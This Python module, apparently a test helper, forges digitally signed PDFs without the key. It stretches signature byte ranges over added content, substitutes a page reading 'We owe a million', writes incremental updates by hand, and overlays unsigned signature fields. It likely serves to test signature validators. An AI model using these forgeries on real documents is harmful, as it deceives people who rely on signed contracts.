"""Signed PDFs forged by people who have no key: what is signed stays, and what a reader shows does not."""

import io
import re
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import SigFieldSpec, append_signature_field

_PADDING = 64
# a longer file has numbers of more digits
_ROUNDS = 4


class _LongString(generic.ByteStringObject):
    """A string in parentheses, which takes one byte of the file for each of its own, where hexadecimal takes two."""

    def write_to_stream(self, stream: Any, handler: Any = None, container_ref: Any = None) -> None:
        escaped = b"".join(b"\\%03o" % byte if byte in b"()\\\r\n" else bytes([byte]) for byte in self)
        stream.write(b"(" + escaped + b")")


def show_other_page(signed: bytes, text: str = "We owe a million") -> bytes:
    """``signed`` with another page, and its only signature stretched over that."""
    for padding in range(_PADDING):
        forged = _stretched(signed, 0, text + " " * padding)
        if forged is not None:
            return forged
    raise AssertionError("no padding makes the lengths fit")


def stretch_signature(signed: bytes, number: int) -> bytes:
    """``signed`` with one of its signatures, counted from 0, stretched over all that follows it."""
    forged = _stretched(signed, number, None)
    assert forged is not None, "the lengths do not fit"
    return forged


def _stretched(signed: bytes, number: int, text: str | None) -> bytes | None:
    """With a signature dictionary written anew, whose value is as long as all that was added.

    So the lengths of its byte range and of its value make up the file's, as if it covered all of it. A byte more of the value is a byte
    more of the file, and two more that it accounts for. None where the lengths do not fit.
    """
    size = len(_signature(signed, number).pkcs7_content)
    for _ in range(_ROUNDS):
        forged = _updated(signed, number, text, size)
        missing = _added(signed, number, forged) - (2 * size + 2)
        if missing == 0:
            return forged
        size += missing
    return None


def _added(signed: bytes, number: int, forged: bytes) -> int:
    _, first, _, second = _signature(signed, number).byte_range
    return len(forged) - int(first) - int(second)


def _signature(signed: bytes, number: int) -> Any:
    return IncrementalPdfFileWriter(io.BytesIO(signed), strict=False).prev.embedded_signatures[number]


def _updated(signed: bytes, number: int, text: str | None, size: int) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False)
    if text is not None:
        page = writer.root["/Pages"]["/Kids"][0]
        content = generic.StreamObject(stream_data=f"BT /F1 12 Tf 72 600 Td ({text}) Tj ET".encode())
        page[generic.pdf_name("/Contents")] = writer.add_object(content)
        writer.update_container(page)
    signature = _signature(signed, number)
    old = signature.sig_field.raw_get("/V")
    reference = generic.Reference(old.idnum, old.generation, writer)
    dictionary = writer.get_object(reference)
    dictionary[generic.pdf_name("/Contents")] = _LongString(signature.pkcs7_content.ljust(size, b"\0"))
    writer.mark_update(reference)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def update_by_hand(signed: bytes, entries: dict[int, int | bytes | None], root: int | None = None) -> bytes:
    """``signed`` with one update more that no library would write.

    For each object's number where in the file it is (also in what was signed), None if it is free, or what it is now; ``root`` is
    another catalogue's number.
    """
    out = bytearray(signed if signed.endswith(b"\n") else signed + b"\n")
    rows = []
    for number, entry in sorted(entries.items()):
        if isinstance(entry, bytes):
            offset: int | None = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, entry)
        else:
            offset = entry
        row = b"0000000000 65535 f \n" if offset is None else b"%010d 00000 n \n" % offset
        rows.append(b"%d 1\n%s" % (number, row))
    before = int(signed[signed.rindex(b"startxref") :].split()[1])
    trailer = IncrementalPdfFileWriter(io.BytesIO(signed), strict=False).prev.trailer
    root = trailer.raw_get("/Root").idnum if root is None else root
    table = len(out)
    out += b"xref\n" + (b"".join(rows) or b"0 0\n")
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(int(trailer["/Size"]), *(number + 1 for number in entries), 1),
        root,
        before,
        table,
    )
    return bytes(out)


def object_at(signed: bytes, number: int) -> int:
    """Where an object of ``signed`` is in it, the last one of its number."""
    return [match.start() for match in re.finditer(rb"(?<!\d)%d 0 obj" % number, signed)][-1]


def lay_over_page(pdf: bytes, commands: bytes | None) -> bytes:
    """``pdf`` with a signature field more, all over its page, which nobody signs; ``commands`` draw its appearance, None for a field that has none."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    append_signature_field(writer, SigFieldSpec("Cover", on_page=0, box=(0, 0, 600, 800)))
    field = writer.root["/AcroForm"]["/Fields"][-1].get_object()
    box = generic.ArrayObject(generic.NumberObject(each) for each in (0, 0, 600, 800))
    kind = {generic.pdf_name("/Subtype"): generic.pdf_name("/Form"), generic.pdf_name("/BBox"): box}
    if commands is None:
        del field["/AP"]
    else:
        look = writer.add_object(generic.StreamObject(kind, stream_data=commands))
        field["/AP"] = generic.DictionaryObject({generic.pdf_name("/N"): look})
    writer.update_container(field)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
